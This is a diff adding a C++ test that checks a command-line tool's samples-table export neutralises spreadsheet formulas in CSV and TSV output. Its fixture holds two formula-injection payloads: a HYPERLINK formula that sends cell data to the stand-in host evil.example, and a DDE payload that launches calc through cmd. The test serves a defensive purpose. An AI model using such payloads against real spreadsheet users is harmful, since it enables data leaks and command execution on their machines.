@@ -423,6 +423,49 @@ TEST_CASE("samples-table TSV escapes a cell once, so tsv_unescape gives the valu
   CHECK(mgnify::tables::tsv_unescape(cell) == value);
 }
 
+/// The study's first sample with a hostile title and metadata value, served as its only sample.
+void serve_formula_sample(const std::string& study_accession, json sample) {
+  sample["sample_title"] = R"(=HYPERLINK("http://evil.example/?leak="&A2,"Click"))";
+  sample["metadata"]["temperature"] = "@SUM(1+1)*cmd|' /C calc'!A0";
+  sample["metadata"]["depth"] = "-12.5";
+  const json page = {{"count", 1}, {"items", json::array({sample})}};
+  tables_mock().push_fault(
+      std::string(mgnify::mock::kV2Prefix) + "/studies/" + study_accession + "/samples/",
+      mgnify::mock::Fault::status_only(200, page.dump()));
+}
+
+TEST_CASE("samples-table neutralises formulas in CSV and TSV unless --no-formula-guard",
+          "[cli][tables][samples][formula]") {
+  const auto& d = v2data::dataset();
+  const auto& study = d.studies[2];
+  const json sample = d.samples[static_cast<std::size_t>(study.samples[0])].with_metadata;
+
+  serve_formula_sample(study.accession, sample);
+  const auto csv = run_tables_cli({"samples-table", study.accession, "--format", "csv"});
+  REQUIRE(csv.code == 0);
+  CHECK(csv.out.find(R"x("'=HYPERLINK(""http://evil.example/?leak=""&A2,""Click"")")x") !=
+        std::string::npos);
+  CHECK(csv.out.find(",'@SUM(1+1)*cmd|' /C calc'!A0") != std::string::npos);
+  CHECK(csv.out.find(",-12.5") != std::string::npos);
+  CHECK(csv.out.find(",'-12.5") == std::string::npos);
+
+  serve_formula_sample(study.accession, sample);
+  const auto tsv = run_tables_cli({"samples-table", study.accession, "--format", "tsv"});
+  REQUIRE(tsv.code == 0);
+  const auto rows = tsv_rows(tsv.out);
+  REQUIRE(rows.size() == 2);
+  CHECK(rows[1].at(index_of(rows[0], "temperature")) == "'@SUM(1+1)*cmd|' /C calc'!A0");
+  CHECK(rows[1].at(index_of(rows[0], "depth")) == "-12.5");
+
+  serve_formula_sample(study.accession, sample);
+  const auto off =
+      run_tables_cli({"--no-formula-guard", "samples-table", study.accession, "--format", "tsv"});
+  REQUIRE(off.code == 0);
+  const auto raw = tsv_rows(off.out);
+  REQUIRE(raw.size() == 2);
+  CHECK(raw[1].at(index_of(raw[0], "temperature")) == "@SUM(1+1)*cmd|' /C calc'!A0");
+}
+
 TEST_CASE("the table commands refuse options that would be dropped", "[cli][tables]") {
   const std::vector<std::vector<std::string>> cases = {
       {"--format", "tsv", "--columns", "accession", "samples-table", "MGYS00000002"},
